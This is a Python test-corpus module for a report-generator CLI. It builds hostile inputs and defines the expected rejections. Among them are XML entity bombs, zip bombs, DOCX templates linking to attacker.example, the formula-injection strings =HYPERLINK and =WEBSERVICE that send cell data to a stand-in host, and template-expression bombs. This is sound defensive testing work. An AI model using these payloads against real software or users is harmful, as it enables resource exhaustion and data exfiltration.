"""A corpus of hostile and broken inputs, each made by code into a folder (no binary blobs).

Every case is what a busy office really hands over: last year's workbook, an old .xls, a WPS file
with a renamed sheet, a file still open in Excel, a JSON with a typo, a zip bomb. `CASES` says
what the command line must answer for each: the exit status and what the message must name.
"""

from __future__ import annotations

import json
import os
import shutil
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from reportgen.formats import get_format
from reportgen.resources import sample_json, sample_workbook

FMT = get_format()
REQ = FMT.requests.sheet  # 依申请公开
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + "]>\n"
)


@dataclass(frozen=True)
class Case:
    """One input, the exit status the CLI must give, and what its message must contain."""

    name: str
    make: Callable[[Path], Path]
    exit: int
    says: tuple[str, ...]  # fragments of the message, besides the file name
    command: str = "check"


# ---- Helpers --------------------------------------------------------------------------------


def copy_sample(folder: Path, name: str = "兰山区2021.xlsx") -> Path:
    path = folder / name
    shutil.copyfile(sample_workbook(), path)
    return path


def rewrite_zip(src: Path, dst: Path, change: Callable[[str, bytes], bytes | None],
                add: dict[str, bytes] | None = None) -> Path:
    """Copy a zip member by member through `change` (None drops a member), then `add` more."""
    with zipfile.ZipFile(src) as zin:
        members = [(i.filename, zin.read(i.filename)) for i in zin.infolist()]
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in members:
            new = change(name, data)
            if new is not None:
                zout.writestr(name, new)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return dst


def sheet_part(path: Path, sheet: str) -> str:
    from reportgen.read.workbook import _sheet_parts

    return _sheet_parts(path)[sheet]


def set_cells(path: Path, cells: dict[tuple[str, str], Any], number_format: str | None = None) -> Path:
    import openpyxl

    wb = openpyxl.load_workbook(path)
    for (sheet, cell), value in cells.items():
        wb[sheet][cell] = value
        if number_format:
            wb[sheet][cell].number_format = number_format
    wb.save(path)
    return path


def cell_case(value: Any, number_format: str | None = None) -> Callable[[Path], Path]:
    """The sample workbook with 依申请公开!D6 (自然人 新收) typed as `value`."""
    return lambda folder: set_cells(copy_sample(folder), {(REQ, "D6"): value}, number_format)


def write_json(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def sample_doc() -> dict[str, Any]:
    return json.loads(sample_json().read_text(encoding="utf-8"))


def json_with(change: Callable[[dict[str, Any]], None], name: str = "兰山区2021.json") -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        doc = sample_doc()
        change(doc)
        return write_json(folder, name, json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8"))

    return make


def patch_declared_size(path: Path, member: str, size: int) -> None:
    """Make the zip directory lie about `member`'s uncompressed size (local and central headers)."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    with zipfile.ZipFile(path) as z:
        offset = z.getinfo(member).header_offset
    struct.pack_into("<I", data, offset + 22, size)  # local file header: uncompressed size
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + name_len] == name:
            struct.pack_into("<I", data, at + 24, size)  # central directory: uncompressed size
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


# ---- Makers ---------------------------------------------------------------------------------


def not_a_zip(folder: Path) -> Path:
    path = folder / "报表.xlsx"
    path.write_text("机关名称\t新收申请\n兰山区\t230\n", encoding="utf-8")  # a table pasted as text
    return path


def zip_not_workbook(folder: Path) -> Path:
    path = folder / "材料.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("说明.txt", "各单位材料")
        z.writestr("照片/1.jpg", os.urandom(256))
    return path


def word_as_xlsx(folder: Path) -> Path:
    path = folder / "年报.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return path


def cfb(folder: Path, name: str, extra: bytes = b"") -> Path:
    """An OLE compound file (old .xls, .et, or an encrypted .xlsx): its magic, padding, a marker."""
    path = folder / name
    path.write_bytes(OLE_MAGIC + b"\0" * 504 + extra + b"\0" * 1024)
    return path


def encrypted_for_real(folder: Path) -> Path:
    """The sample workbook encrypted with a password by msoffcrypto-tool (as Excel does)."""
    from msoffcrypto.format.ooxml import OOXMLFile  # optional: the test skips without it

    plain = copy_sample(folder, "plain.xlsx")
    path = folder / "加密的工作簿.xlsx"
    with plain.open("rb") as src, path.open("wb") as dst:
        OOXMLFile(src).encrypt("123456", dst)
    return path


def truncated(folder: Path) -> Path:
    data = sample_workbook().read_bytes()
    path = folder / "传了一半.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


def corrupt_member(folder: Path) -> Path:
    """A workbook whose requests sheet's deflated bytes were damaged (a bad USB stick)."""
    path = copy_sample(folder, "损坏.xlsx")
    part = sheet_part(path, REQ)
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(part)
        start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data = bytearray(path.read_bytes())
    for i in range(start + 40, start + 400):
        data[i] ^= 0x5A
    path.write_bytes(bytes(data))
    return path


def renamed_sheet(folder: Path) -> Path:
    """A WPS user renamed 依申请公开 to Sheet3."""
    import openpyxl

    path = copy_sample(folder, "WPS改过.xlsx")
    wb = openpyxl.load_workbook(path)
    wb[REQ].title = "Sheet3"
    wb.save(path)
    return path


def missing_sheet(folder: Path) -> Path:
    import openpyxl

    path = copy_sample(folder, "删了一张表.xlsx")
    wb = openpyxl.load_workbook(path)
    del wb[FMT.appeals.sheet]
    wb.save(path)
    return path


def rows_inserted(folder: Path) -> Path:
    """Two rows inserted above table 3, and then the label of a row changed: named at its new cell."""
    import openpyxl

    path = copy_sample(folder, "插了行.xlsx")
    wb = openpyxl.load_workbook(path)
    wb[REQ].insert_rows(1, 2)
    wb[REQ]["C12"] = "1.属于国家机密"  # C10 before the insert
    wb.save(path)
    return path


def entity_bomb_sheet(folder: Path) -> Path:
    src = copy_sample(folder, "src.xlsx")
    part = sheet_part(src, REQ)

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        xml = data.decode("utf-8").split("?>", 1)[-1] if data.startswith(b"<?xml") else data.decode("utf-8")
        xml = xml.replace("<sheetData>", '<sheetData><row r="300"><c r="Z300" t="inlineStr"><is><t>&lol9;</t></is></c></row>', 1)
        return (BILLION_LAUGHS + xml).encode("utf-8")

    return rewrite_zip(src, folder / "实体炸弹.xlsx", change)


def entity_bomb_shared_strings(folder: Path) -> Path:
    src = copy_sample(folder, "src.xlsx")
    sst = (
        BILLION_LAUGHS
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        '<si><t>&lol9;</t></si></sst>'
    )
    return rewrite_zip(src, folder / "共享字符串炸弹.xlsx", lambda n, d: d, {"xl/sharedStrings.xml": sst.encode()})


def _shared_strings(count: int) -> bytes:
    items = "".join(f"<si><t>第{i}条粘贴进来的文字</t></si>" for i in range(count))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{count}" '
        f'uniqueCount="{count}">{items}</sst>'
    ).encode()


def big_shared_strings(folder: Path) -> Path:
    """200 000 shared strings (≈9 MB of XML) nobody refers to: read, slowly but surely."""
    src = copy_sample(folder, "src.xlsx")
    return rewrite_zip(src, folder / "很多文字.xlsx", lambda n, d: d, {"xl/sharedStrings.xml": _shared_strings(200_000)})


def enormous_shared_strings(folder: Path) -> Path:
    """A shared-strings table past the per-part bound (≈22 MB inflated): refused before parsing."""
    src = copy_sample(folder, "src.xlsx")
    return rewrite_zip(src, folder / "超多文字.xlsx", lambda n, d: d, {"xl/sharedStrings.xml": _shared_strings(500_000)})


def zip_bomb(folder: Path) -> Path:
    """300 MB of zeros deflated to ~300 kB, declared honestly in the zip directory."""
    src = copy_sample(folder, "src.xlsx")
    path = rewrite_zip(src, folder / "压缩炸弹.xlsx", lambda n, d: d)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z, z.open("xl/media/image1.png", "w") as fh:
        block = b"\0" * (1 << 20)
        for _ in range(300):
            fh.write(block)
    return path


def lying_zip_bomb(folder: Path) -> Path:
    """The requests sheet padded with 30 MB of spaces, its declared size patched down to 40 kB."""
    src = copy_sample(folder, "src.xlsx")
    part = sheet_part(src, REQ)

    def change(name: str, data: bytes) -> bytes:
        return data.replace(b"<sheetData>", b"<sheetData>" + b" " * (30 << 20), 1) if name == part else data

    path = rewrite_zip(src, folder / "谎报大小.xlsx", change)
    patch_declared_size(path, part, 40_000)
    return path


def pasted_photo(folder: Path) -> Path:
    """A 50 MB workbook: a (random, incompressible) photo pasted in. Big is not hostile: read it."""
    src = copy_sample(folder, "src.xlsx")
    path = rewrite_zip(src, folder / "带照片的工作簿.xlsx", lambda n, d: d)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as z:
        z.writestr("xl/media/image1.jpeg", os.urandom(50 * 1024 * 1024))
    return path


def lock_file(folder: Path) -> Path:
    """Excel's owner file beside a workbook open in Excel: ~$ + name, 165 bytes."""
    copy_sample(folder)
    path = folder / "~$兰山区2021.xlsx"
    path.write_bytes(b"\x08" + "张三".encode("utf-16-le").ljust(110, b" ") + b"\0" * 54)
    return path


def empty(name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(b"")
        return path

    return make


def missing(folder: Path) -> Path:
    return folder / "不存在的工作簿.xlsx"


def directory(folder: Path) -> Path:
    path = folder / "各单位 材料"
    path.mkdir()
    return path


def chinese_name_with_spaces(folder: Path) -> Path:
    return copy_sample(folder, "兰山区 2021 年 工作簿（定稿）.xlsx")


def chinese_name_broken(folder: Path) -> Path:
    path = folder / "兰山区 2021 年 （最终版）.xlsx"
    path.write_bytes(b"PK\x03\x04 not really")
    return path


def json_syntax_error(folder: Path) -> Path:
    text = '{\n "meta": {\n  "organ": "兰山区",\n  "year": 2021,\n }\n}\n'  # trailing comma: line 5, col 2
    return write_json(folder, "手改过.json", text.encode("utf-8"))


def json_gbk(folder: Path) -> Path:
    text = json.dumps(sample_doc(), ensure_ascii=False)
    return write_json(folder, "记事本保存.json", text.encode("gbk"))


def json_bom(folder: Path) -> Path:
    text = json.dumps(sample_doc(), ensure_ascii=False)
    return write_json(folder, "带BOM.json", b"\xef\xbb\xbf" + text.encode("utf-8"))


def json_top_list(folder: Path) -> Path:
    return write_json(folder, "列表.json", json.dumps([sample_doc()]).encode())


def json_deep(folder: Path) -> Path:
    return write_json(folder, "嵌套.json", ("[" * 100_000 + "]" * 100_000).encode())


def _set(doc: dict[str, Any], dotted: str, value: Any) -> None:
    *parents, last = dotted.split(".")
    node = doc
    for p in parents:
        node = node[p]
    node[last] = value


CASES: list[Case] = [
    # ---- unreadable: exit 2 ----
    Case("not_a_zip", not_a_zip, 2, ("不是Excel工作簿", "另存为")),
    Case("zip_not_workbook", zip_not_workbook, 2, ("压缩文件，不是Excel工作簿",)),
    Case("word_as_xlsx", word_as_xlsx, 2, ("Word文档",)),
    Case("xls", lambda f: cfb(f, "2015年报表.xls"), 2, ("旧版Excel", "另存为", ".xlsx")),
    Case("xls_renamed_xlsx", lambda f: cfb(f, "2015年报表.xlsx"), 2, ("旧版Excel", "另存为", ".xlsx")),
    Case("et", lambda f: cfb(f, "WPS表格.et"), 2, ("WPS", "另存为", ".xlsx")),
    Case("csv", lambda f: write_json(f, "导出.csv", "项目,数量\n新收申请,230\n".encode()), 2, ("CSV", ".xlsx")),
    # A .txt is read as a published report's text; one without the tables says what it lacks.
    Case("txt", lambda f: write_json(f, "粘贴.txt", "新收申请 230".encode()), 2, ("没有找到年度报告的统计表", ".xlsx")),
    Case("pdf", lambda f: write_json(f, "报告.pdf", b"%PDF-1.7 not really"), 2, ("无法打开PDF文件",)),
    Case("password_fake_cfb", lambda f: cfb(f, "有密码.xlsx", "EncryptedPackage".encode("utf-16-le")), 2,
         ("打开密码", "取消密码")),
    Case("truncated", truncated, 2, ("已损坏",)),
    Case("corrupt_member", corrupt_member, 2, ("已损坏",)),
    Case("renamed_sheet", renamed_sheet, 2, (f"缺少工作表“{REQ}”", "Sheet3", "重命名")),
    Case("missing_sheet", missing_sheet, 2, (f"缺少工作表“{FMT.appeals.sheet}”",)),
    Case("rows_inserted_label_changed", rows_inserted, 2, (f"{REQ}!C12", "1.属于国家秘密")),
    Case("entity_bomb_sheet", entity_bomb_sheet, 2, ("DOCTYPE", "xl/worksheets/")),
    Case("entity_bomb_shared_strings", entity_bomb_shared_strings, 2, ("DOCTYPE", "xl/sharedStrings.xml")),
    Case("enormous_shared_strings", enormous_shared_strings, 2, ("压缩内容异常", "xl/sharedStrings.xml")),
    Case("zip_bomb", zip_bomb, 2, ("压缩炸弹", "xl/media/image1.png")),
    Case("lying_zip_bomb", lying_zip_bomb, 2, ("已损坏",)),
    Case("lock_file", lock_file, 2, ("临时锁定文件", "兰山区2021.xlsx")),
    Case("empty_xlsx", empty("空.xlsx"), 2, ("文件是空的",)),
    Case("empty_json", empty("空.json"), 2, ("文件是空的",)),
    Case("missing", missing, 2, ("文件不存在",)),
    Case("missing_build", missing, 2, ("文件不存在",), command="build"),
    Case("directory", directory, 2, ("文件夹",)),
    Case("chinese_name_broken", chinese_name_broken, 2, ("不是Excel工作簿",)),
    Case("json_syntax_error", json_syntax_error, 2, ("第5行第2列", "多余的逗号")),
    Case("json_gbk", json_gbk, 2, ("UTF-8", "GBK", "另存为")),
    Case("json_top_level_list", json_top_list, 2, ("顶层应为对象",)),
    Case("json_list_for_object", json_with(lambda d: _set(d, "requests", [1, 2])), 2, ("requests", "不应为列表")),
    Case("json_meta_string", json_with(lambda d: _set(d, "meta", "兰山区")), 2, ("meta", "应为对象")),
    Case("json_format_list", json_with(lambda d: _set(d, "format", ["gov-2021"])), 2, ("不认识的格式",)),
    Case("json_deep_nesting", json_deep, 2, ("嵌套",)),
    # ---- invalid data: exit 1, named at the cell or key ----
    Case("cell_chinese_numeral", cell_case("十二"), 1, (f"{REQ}!D6", "非负整数", "十二")),
    Case("cell_12abc", cell_case("12abc"), 1, (f"{REQ}!D6", "12abc")),
    Case("cell_decimal_text", cell_case("1.5"), 1, (f"{REQ}!D6", "1.5")),
    Case("cell_fraction", cell_case(0.5, "# ?/?"), 1, (f"{REQ}!D6", "0.5")),
    Case("cell_fraction_text", cell_case("1/2"), 1, (f"{REQ}!D6", "1/2")),
    Case("cell_negative", cell_case(-230), 1, (f"{REQ}!D6", "负数")),
    Case("cell_negative_text", cell_case("-230"), 1, (f"{REQ}!D6", "负数")),
    Case("cell_date", cell_case(__import__("datetime").date(2021, 3, 1)), 1, (f"{REQ}!D6", "非负整数")),
    Case("cell_boolean", cell_case(True), 1, (f"{REQ}!D6", "非负整数", "True")),
    Case("cell_ref_error", cell_case("#REF!"), 1, (f"{REQ}!D6", "#REF!")),
    Case("cell_formula_no_result", cell_case("=D7+1"), 1, (f"{REQ}!D6", "公式", "=D7+1")),
    Case("cell_huge", cell_case(10**15), 1, (f"{REQ}!D6", "超出合理范围")),
    Case("cell_huge_text", cell_case("9" * 5000), 1, (f"{REQ}!D6", "超出合理范围")),
    Case("json_count_chinese", json_with(lambda d: _set(d, "requests.new.natural_person", "十二")), 1,
         ("requests.new.natural_person", "十二")),
    Case("json_count_list", json_with(lambda d: _set(d, "requests.new.natural_person", {"a": [1]})), 2,
         ("requests.new.natural_person.a", "不应为列表")),
    Case("json_money_huge", json_with(lambda d: _set(d, "active_disclosure.fees.amount", 1e40)), 1,
         ("active_disclosure.fees.amount", "超出合理范围")),
    # ---- read, with a warning or nothing to say: exit 0 ----
    Case("cell_full_width", cell_case("２３０"), 0, (f"{REQ}!D6", "按数字230读取")),
    Case("cell_thousands_text",
         lambda f: set_cells(copy_sample(f), {(FMT.active.sheet, "B9"): "295,613"}), 0,
         (f"{FMT.active.sheet}!B9", "按数字295613读取")),
    Case("cell_misgrouped_text", cell_case("2,30"), 1, (f"{REQ}!D6", "2,30")),
    Case("json_unknown_key", json_with(lambda d: _set(d, "requets", {})), 0, ("requets", "不认识的项")),
    Case("json_bom", json_bom, 0, ("检查通过",)),
    Case("chinese_name_with_spaces", chinese_name_with_spaces, 0, ("检查通过",)),
    Case("big_shared_strings", big_shared_strings, 0, ("检查通过",)),
    Case("pasted_photo", pasted_photo, 0, ("检查通过",)),
]


# ---- Second round (issue 14): attacks on every way in, each with the command it is given to ----
#
# An `Attack` makes its inputs in `inp` (and maybe an old output in `out`) and returns the
# command line. The test runs it in a real process under memory and time limits and checks the
# exit status, the message, that no input changed and that `out` holds all-new or all-old files.

STANDARD_PACK = Path(__file__).resolve().parents[2] / "templates" / "standard"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@dataclass(frozen=True)
class Attack:
    name: str
    make: Callable[[Path, Path], list[str | Path]]
    exit: int
    says: tuple[str, ...] = ()
    verify: Callable[[Path], None] | None = None  # further checks of `out` after a success


def json_file(folder: Path, change: Callable[[dict[str, Any]], None] | None = None, name: str = "兰山区2021.json") -> Path:
    doc = sample_doc()
    if change:
        change(doc)
    # ensure_ascii: a lone surrogate survives only as a \ud800 escape
    return write_json(folder, name, json.dumps(doc, ensure_ascii=True).encode())


def pack_with(folder: Path, name: str, manifest: str, files: dict[str, str] | None = None) -> Path:
    pack = folder / name
    pack.mkdir()
    (pack / "pack.toml").write_text(manifest, encoding="utf-8")
    for fname, text in (files or {}).items():
        (pack / fname).write_text(text, encoding="utf-8")
    return pack


def docx_pack(folder: Path, change: Callable[[str, bytes], bytes | None], add: dict[str, bytes] | None = None) -> Path:
    """A pack extending standard whose report.docx is the standard one changed member by member."""
    pack = pack_with(folder, "外来模板", 'name = "foreign"\nformat = "gov-2021"\nextends = "standard"\n')
    rewrite_zip(STANDARD_PACK / "report.docx", pack / "report.docx", change, add)
    return pack


def _rels_add(part: str, relationship: str) -> Callable[[str, bytes], bytes]:
    return lambda n, d: d.replace(b"</Relationships>", relationship.encode() + b"</Relationships>") if n == part else d


def _body_add(xml: str) -> Callable[[str, bytes], bytes]:
    return lambda n, d: d.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1) if n == "word/document.xml" else d


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL_DOCX = {
    "attached_template": _rels_add("word/_rels/settings.xml.rels",
                                   f'<Relationship Id="rId99" Type="{R}/attachedTemplate" '
                                   'Target="http://attacker.example/macro.dotm" TargetMode="External"/>'),
    "unc_hyperlink": _rels_add("word/_rels/document.xml.rels",
                               f'<Relationship Id="rId99" Type="{R}/hyperlink" Target="file://attacker.example/share/x" '
                               'TargetMode="External"/>'),
    "remote_image": _rels_add("word/_rels/document.xml.rels",
                              f'<Relationship Id="rId99" Type="{R}/image" Target="http://attacker.example/p.png" '
                              'TargetMode="External"/>'),
    "includepicture_field": _body_add(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText>PICTURE "http://attacker.example/p.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "macro_part": lambda n, d: d,  # the part itself is added below
}


def external_docx(kind: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        add = {"word/vbaProject.bin": b"\0" * 64} if kind == "macro_part" else None
        if kind == "attached_template":
            add = {"word/_rels/settings.xml.rels": (
                b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
                b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')}
            pack = docx_pack(folder, lambda n, d: d, add)
            rewrite_zip(pack / "report.docx", folder / "t.docx", EXTERNAL_DOCX[kind])
            shutil.move(folder / "t.docx", pack / "report.docx")
            return pack
        return docx_pack(folder, EXTERNAL_DOCX[kind], add)

    return make


def far_cell(cell: str) -> Callable[[Path], Path]:
    """The sample workbook with one more cell far out on the requests sheet (a stray keystroke)."""
    def make(folder: Path) -> Path:
        src = copy_sample(folder, "src.xlsx")
        part = sheet_part(src, REQ)
        row = "".join(ch for ch in cell if ch.isdigit())

        def change(name: str, data: bytes) -> bytes:
            if name != part:
                return data
            extra = f'<row r="{row}"><c r="{cell}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
            return data.replace(b"</sheetData>", extra + b"</sheetData>", 1)

        path = rewrite_zip(src, folder / f"远处有格{cell}.xlsx", change)
        src.unlink()
        return path

    return make


def workbook_with(cells: dict[tuple[str, str], Any], name: str = "兰山区2021.xlsx") -> Callable[[Path], Path]:
    return lambda folder: set_cells(copy_sample(folder, name), cells)


def units_sheet_value(value: float) -> Callable[[Path], Path]:
    """A merged workbook whose 单位汇总 sheet holds `value` for a unit."""
    def make(folder: Path) -> Path:
        import openpyxl

        path = copy_sample(folder, "汇总.xlsx")
        wb = openpyxl.load_workbook(path)
        ws = wb.create_sheet("单位汇总")
        ws.append(["各单位主要数据"])
        ws.append(["单位", "来源文件", "新收申请"])
        ws.append(["甲局", "甲局.xlsx", value])
        wb.save(path)
        return path

    return make


def word_docx(name: str, body: str) -> Callable[[Path], Path]:
    """A minimal published report (.docx) with `body` as word/document.xml's body."""
    def make(folder: Path) -> Path:
        path = folder / name
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("[Content_Types].xml", "<Types/>")
            z.writestr("word/document.xml", f"<w:document {W_NS}><w:body>{body}")
        return path

    return make


nested_sdt_docx = word_docx(
    "去年的报告.docx", "<w:sdt><w:sdtContent>" * 5000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 5000 + "</w:body></w:document>")
malformed_docx = word_docx("坏的报告.docx", "<w:p><w:t>一、总体情况")  # cut off mid-paragraph


def web_page(name: str, body: str) -> Callable[[Path], Path]:
    """A saved report page whose body is `body` (its title names a real organ and year)."""
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_text('<html><head><meta charset="utf-8"><title>某县人民政府2023年政府信息公开工作年度报告</title>'
                        f"</head><body><p>某县人民政府2023年政府信息公开工作年度报告</p>{body}</body></html>",
                        encoding="utf-8")
        return path
    return make


_HEADER = "<tr><td>申请人情况</td><td>自然人</td></tr>"
# 107 kB: 2,000 rows whose cells each span 65534 rows and 1000 columns (4 × 10¹¹ cells as written)
span_bomb_page = web_page("跨行炸弹.html", "<table>" + "".join(
    f'<tr><td rowspan="65534" colspan="1000">{i}</td></tr>' for i in range(2000)) + "</table>")
# 6.6 MB: 100,000 little tables that each look like the start of 表三
many_tables_page = web_page("十万个表格.html", f"<table>{_HEADER}</table>" * 100_000)
# 12 MB of one paragraph: bigger than any real page
huge_page = web_page("巨大网页.html", "<p>" + "字" * 4_000_000 + "</p>")


def fifo(folder: Path) -> Path:
    path = folder / "unit.json"
    os.mkfifo(path)
    return path


def link_to(target: str, name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        path.symlink_to(target)
        return path

    return make


def _organ(value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda d: _set(d, "meta.organ", value)


def _prose(text: str, key: str = "overview.requests") -> Callable[[dict[str, Any]], None]:
    return lambda d: d["narrative"].__setitem__(key, text)


NARRATIVE = f"正文!{__import__('reportgen.formats.workbook', fromlist=['layout']).layout().slots['narrative.overview.requests'].cell}"


def _check(source: Callable[[Path], Path]) -> Callable[[Path, Path], list[str | Path]]:
    return lambda inp, out: ["check", source(inp)]


def _build(source: Callable[[Path], Path], formats: str = "html,json", *extra: str) -> Callable[[Path, Path], list[str | Path]]:
    return lambda inp, out: ["build", source(inp), "-o", out, "--format", formats, *extra]


def _build_with_pack(pack: Callable[[Path], Path], formats: str = "html,json") -> Callable[[Path, Path], list[str | Path]]:
    return lambda inp, out: ["build", json_file(inp), "-o", out, "--format", formats, "--template", pack(inp)]


def _templates_check(pack: Callable[[Path], Path]) -> Callable[[Path, Path], list[str | Path]]:
    return lambda inp, out: ["templates", "check", pack(inp)]


def _json(change: Callable[[dict[str, Any]], None], name: str = "兰山区2021.json") -> Callable[[Path], Path]:
    return lambda folder: json_file(folder, change, name)


def _no_formula_cells(out: Path) -> None:
    """Every workbook in `out`: no cell holds a formula made of input text."""
    import openpyxl

    books = sorted(out.glob("*.xlsx"))
    assert books, "no workbook was written"
    for book in books:
        wb = openpyxl.load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.data_type == "f":
                        assert "attacker" not in str(c.value) and "HYPERLINK" not in str(c.value), (ws.title, c.coordinate)
                    if isinstance(c.value, str) and "attacker.example" in c.value:
                        assert c.data_type == "s", (ws.title, c.coordinate)


def _units_clean(out: Path) -> None:
    import openpyxl

    ws = openpyxl.load_workbook(out / "汇总.xlsx")["单位汇总"]
    assert [ws.cell(r, 1).value for r in (3, 4)] == ["甲局", "乙局"]


def _names_are_clean(out: Path) -> None:
    names = [p.name for p in out.iterdir()]
    assert names, "nothing was written"
    for name in names:
        assert not any(ch in name for ch in "\u202e\u200b\u000b\u0001\ufeff"), repr(name)


def _no_negative_zero(out: Path) -> None:
    html = next(out.glob("*.html")).read_text(encoding="utf-8")
    assert "-0.00" not in html and "收取行政事业性收费0.00万元" in html.replace(" ", "") or "0.00" in html


def _init_organ(organ: str) -> Callable[[Path, Path], list[str | Path]]:
    def make(inp: Path, out: Path) -> list[str | Path]:
        out.mkdir()
        return ["init", out / "新工作簿.xlsx", "--organ", organ, "--year", "2025"]

    return make


def _init_previous_contact(inp: Path, out: Path) -> list[str | Path]:
    out.mkdir()
    previous = json_file(inp, lambda d: _set(d, "meta.contact.phone", '=HYPERLINK("http://attacker.example/")'))
    return ["init", out / "兰山区2022.xlsx", "--previous", previous]


def _merge_units(organ: str) -> Callable[[Path, Path], list[str | Path]]:
    def make(inp: Path, out: Path) -> list[str | Path]:
        out.mkdir()
        a = json_file(inp, _organ(organ), "甲.json")
        b = json_file(inp, _organ("乙局"), "乙.json")
        return ["merge", a, b, "-o", out / "汇总.xlsx", "--organ", "临沂市兰山区人民政府"]

    return make


def _merge_onto_input(inp: Path, out: Path) -> list[str | Path]:
    a = json_file(inp, _organ("甲局"), "a.json")
    b = json_file(inp, _organ("乙局"), "b.json")
    return ["merge", a, b, "-o", a, "--force"]


def _init_onto_previous(inp: Path, out: Path) -> list[str | Path]:
    previous = copy_sample(inp, "兰山区2021.xlsx")
    return ["init", previous, "--previous", previous, "--force"]


def _pack_manifest(manifest: str) -> Callable[[Path], Path]:
    return lambda folder: pack_with(folder, "坏清单", manifest)


def _pack_sentences(expr: str) -> Callable[[Path], Path]:
    return lambda folder: pack_with(
        folder, "大格式", 'name = "big"\nformat = "gov-2021"\nextends = "standard"\n',
        {"report.html.j2": '{% extends "standard/report.html.j2" %}{% block colophon %}' + expr + "{% endblock %}"})


def _two_packs_cycle(inp: Path, out: Path) -> list[str | Path]:
    pack_with(inp, "甲", 'name = "甲"\nextends = "乙"\n')
    pack_with(inp, "乙", 'name = "乙"\nextends = "甲"\n')
    return ["templates", "list", "--templates", inp]


def _long_output_folder(inp: Path, out: Path) -> list[str | Path]:
    return ["build", json_file(inp), "-o", out / ("很长的文件夹名" * 30), "--format", "json"]


ATTACKS: list[Attack] = [
    # 1. a report template that reaches outside
    *(Attack(f"docx_{kind}_check", _templates_check(external_docx(kind)), 1, ("report.docx", "为安全起见拒绝使用"))
      for kind in EXTERNAL_DOCX),
    *(Attack(f"docx_{kind}_build", _build_with_pack(external_docx(kind), "docx"), 2, ("report.docx", "为安全起见拒绝使用"))
      for kind in EXTERNAL_DOCX),
    # 2. formulas in text written into workbooks
    Attack("init_organ_formula", _init_organ('=HYPERLINK("http://attacker.example/?"&B13,"点击")'), 0,
           verify=_no_formula_cells),
    Attack("init_previous_contact_formula", _init_previous_contact, 0, verify=_no_formula_cells),
    Attack("merge_unit_organ_formula", _merge_units('=WEBSERVICE("http://attacker.example/")'), 0,
           verify=_no_formula_cells),
    # 3. cells far out: read only the format's ranges
    Attack("cell_at_XFD1048576", _check(far_cell("XFD1048576")), 0, ("共0个错误",)),
    Attack("cell_at_ZZ200000", _check(far_cell("ZZ200000")), 0, ("共0个错误",)),
    # 4, 25. placeholders are data references
    Attack("placeholder_power", _check(workbook_with({("正文", NARRATIVE.split("!")[1]): "{{ 9**(9**9) }}"})), 1,
           (NARRATIVE, "{{ 9**(9**9) }}", "不能运算")),
    Attack("placeholder_string_product", _check(_json(_prose("共{{ 'a'*(3*10**9) }}件"))), 1,
           ("narrative.overview.requests", "'a'*(3*10**9)", "不能运算")),
    Attack("placeholder_statement", _check(_json(_prose("{% for i in range(10**9) %}x{% endfor %}"))), 1,
           ("narrative.overview.requests", "{%")),
    # 5. pack filters that would allocate gigabytes
    Attack("pack_format_width", _templates_check(_pack_sentences('{{ "%3000000000s"|format("a") }}')), 1, ("过大",)),
    Attack("pack_center", _build_with_pack(_pack_sentences('{{ "a"|center(3*10**9) }}')), 2, ("过大", "report.html.j2")),
    Attack("pack_str_method", _build_with_pack(_pack_sentences('{{ "a".ljust(10**10) }}')), 2, ("过大",)),
    # 6. not a regular file
    Attack("fifo_json", _check(fifo), 2, ("管道",)),
    Attack("link_to_dev_zero_json", _check(link_to("/dev/zero", "数据.json")), 2, ("设备文件",)),
    Attack("link_to_dev_zero_xlsx", _check(link_to("/dev/zero", "工作簿.xlsx")), 2, ("设备文件",)),
